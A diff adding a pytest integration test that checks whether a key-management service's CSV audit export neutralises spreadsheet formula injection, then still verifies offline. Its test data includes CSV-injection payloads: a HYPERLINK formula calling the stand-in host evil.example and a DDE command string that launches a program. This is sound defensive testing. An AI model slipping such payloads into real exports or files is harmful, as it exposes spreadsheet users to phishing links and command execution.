@@ -15,6 +15,7 @@ from pathlib import Path
 import pytest
 
 from kms_client import Conflict, PendingQuorumOp, Retention, ValidationFailed
+from tests.integration.helpers import raw_http
 from tests.integration.test_quorum import creds
 from tests.support.kma_process import RunningKma, run_kma
 
@@ -89,6 +90,36 @@ def test_csv_export_verifies_offline_and_one_changed_byte_fails(demo_kma: Runnin
         bad = verify_export("--export", flip_byte(export, offset), "--ca", ca)
         assert bad.returncode == 1, f"byte {offset} changed but the export still verified"
         assert "does NOT verify" in bad.stderr
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?x","click")', "@SUM(A1:A9)", "+cmd|' /C calc'!A0",
+            "-2+3", "\tleading tab", "'already quoted"]  # fmt: skip
+
+
+def test_csv_export_neutralises_formulas_and_still_verifies(fresh_kma: RunningKma, tmp_path: Path) -> None:
+    """Given sign-ins by strangers whose user IDs are spreadsheet formulas (audited as typed),
+    the export has no cell a spreadsheet would run, and the offline check recovers every value."""
+    import csv
+
+    with raw_http(fresh_kma) as http:
+        for user_id in FORMULAS:
+            http.post("/auth/sign-in", json={"user_id": user_id, "passphrase": "anything at all"})
+    export = tmp_path / "events.csv"
+    with export.open("wb") as out:
+        fresh_kma.client("auditor").export_audit_csv(out, operation="auth.sign_in", condition="error")
+    body = export.read_text(encoding="utf-8").rsplit("#KMA-EXPORT-SIGNATURE ", 1)[0]
+    rows = list(csv.DictReader(body.splitlines(keepends=True)))
+    ids = [row["entity_id"] for row in rows]
+    for user_id in FORMULAS:
+        assert "'" + user_id in ids  # the value, behind one apostrophe
+    cells = [cell for row in rows for cell in row.values()]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+
+    ca = tmp_path / "ca.pem"
+    ca.write_text(fresh_kma.ca_pem)
+    ok = verify_export("--export", export, "--ca", ca)
+    assert ok.returncode == 0, ok.stderr
+    assert f"{len(rows)} events, each event's hash recomputed and matching" in ok.stdout
 
 
 def test_signed_report_states_the_chain_result_and_verifies_offline(demo_kma: RunningKma,
